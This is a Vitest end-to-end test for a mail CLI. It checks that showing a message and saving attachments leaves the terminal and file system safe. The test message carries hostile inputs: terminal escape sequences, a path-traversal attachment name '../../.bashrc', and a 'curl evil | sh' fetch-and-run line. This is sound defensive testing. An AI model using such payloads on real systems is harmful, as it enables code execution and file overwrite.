import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startDovecot, type Dovecot } from '../helpers/dovecot.js';
import { PtySession } from '../helpers/pty-session.js';
import { runCli } from '../helpers/run-cli.js';
import { useTempDirs } from '../helpers/temp-dir.js';
import { messageWithAttachments } from './comms-messages.js';

describe('an admin at a terminal opens a communication and saves its attachment (pseudo-terminal, real binary, real Dovecot)', () => {
  const tempDir = useTempDirs();
  let dovecot: Dovecot;
  beforeAll(async () => {
    dovecot = await startDovecot({ users: [{ name: 'contracts@acme.test', password: 'c-pass' }] });
  });
  afterAll(() => dovecot?.stop());

  it('comms show on the terminal, then comms attachment ID 1 -o FILE writes the exact bytes; raw mail is not poured onto the terminal', async () => {
    const home = tempDir();
    const env = { MAILCTL_HOME: home, MAILCTL_SECRET_BACKEND: 'file' };
    await runCli(['init', '--name', 'acme-prod', '--url', 'https://records.acme.test', '--environment', 'production'], { env });
    await runCli(['tables', 'add', 'contracts'], { env });
    await runCli(['contacts', 'add', 'pat@acme.test', '--name', 'Pat Lee', '--can-create', 'contracts'], { env });
    const configured = await runCli(['configure', 'inbound', 'contracts', '--protocol', 'imap', '--host', '127.0.0.1', '--port', String(dovecot.imapPort), '--security', 'none',
      '--auth', 'password', '--username', 'contracts@acme.test', '--secret-stdin', '--folder', 'INBOX', '--create-records', '--unknown-sender', 'ignore',
      '--notes', 'new-text', '--after', 'mark-read'], { env, input: 'c-pass' });
    expect(configured.code, configured.stderr).toBe(0);
    const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(12_345)]);
    dovecot.deliver('contracts@acme.test', messageWithAttachments({
      from: 'Pat Lee <pat@acme.test>', subject: 'Signed MSA', messageId: 'msa-1@acme.test',
      body: 'Signed copy attached.\r\n\u001b[8mhidden\u001b[0m \u001b]0;pwned\u0007', attachments: [
        { param: 'filename="msa-signed.pdf"', name: 'msa-signed.pdf', type: 'application/pdf', bytes: pdf },
        { param: 'filename="../../.bashrc"', name: '../../.bashrc', type: 'text/plain', bytes: Buffer.from('curl evil | sh\n') },
      ],
    }));
    expect((await runCli(['daemon', '--once'], { env })).code).toBe(0);
    const comm = JSON.parse((await runCli(['comms', 'list', '--json'], { env })).stdout).communications[0] as { id: number; disposition: string };
    expect(comm.disposition).toBe('record-created');

    // The admin looks at the list (fitted to the 120-column terminal), then at the message.
    const list = new PtySession(['comms', 'list'], env);
    try {
      await list.waitFor('REASON');
      expect(await list.exited).toBe(0);
      for (const line of list.screen.trimEnd().split('\n')) expect([...line].length, line).toBeLessThanOrEqual(120);
      expect(list.screen).toMatch(/record-created\s+Signed MSA\s+no reference; pat@acme\.test.*…$/m); // cut to the terminal
    } finally {
      list.kill();
    }

    const show = new PtySession(['comms', 'show', String(comm.id)], env);
    try {
      await show.waitFor(`Communication ${comm.id}`);
      await show.waitFor('Signed copy attached.');
      await show.waitFor(/Attachments \(2\):/);
      await show.waitFor(/1\s+msa-signed\.pdf\s+application\/pdf\s+12 KB/);
      await show.waitFor(/2\s+\.\.\/\.\.\/\.bashrc\s+text\/plain/);
      await show.waitFor(`mailctl comms attachment ${comm.id} 1 -o msa-signed.pdf`); // the name --all would give it
      expect(await show.exited).toBe(0);
      expect(show.rawOutput).toContain('\u001b[1m'); // our own bold: this is a terminal
      // The mail's own sequences arrive as pictures, never as sequences.
      expect(show.rawOutput).not.toContain('\u001b[8m');
      expect(show.rawOutput).not.toContain('\u001b]0;');
      expect(show.screen).toContain('␛[8mhidden␛[0m ␛]0;pwned␇');
    } finally {
      show.kill();
    }

    const file = join(home, 'msa-signed.pdf');
    const save = new PtySession(['comms', 'attachment', String(comm.id), '1', '-o', file], env);
    try {
      await save.waitFor(`✓ Saved attachment 1 (msa-signed.pdf, application/pdf, 12 KB) of communication ${comm.id} to ${file}.`);
      expect(await save.exited).toBe(0);
    } finally {
      save.kill();
    }
    expect(readFileSync(file).equals(pdf)).toBe(true);

    const raw = new PtySession(['comms', 'raw', String(comm.id)], env);
    try {
      await raw.waitFor('Not writing raw mail to the terminal');
      await raw.waitFor(`mailctl comms raw ${comm.id} -o message-${comm.id}.eml`);
      expect(await raw.exited).toBe(2);
      expect(raw.screen).not.toContain('Signed copy attached.');
    } finally {
      raw.kill();
    }
    // -o - is standard output: the same rule for raw mail and for an attachment.
    for (const args of [['comms', 'raw', String(comm.id), '-o', '-'], ['comms', 'attachment', String(comm.id), '2', '-o', '-']]) {
      const session = new PtySession(args, env);
      try {
        await session.waitFor(/Not writing (raw mail|an attachment) to the terminal/);
        expect(await session.exited).toBe(2);
        expect(session.screen).not.toContain('curl evil');
        expect(session.screen).not.toContain('Signed copy attached.');
      } finally {
        session.kill();
      }
    }
  }, 60_000);
});
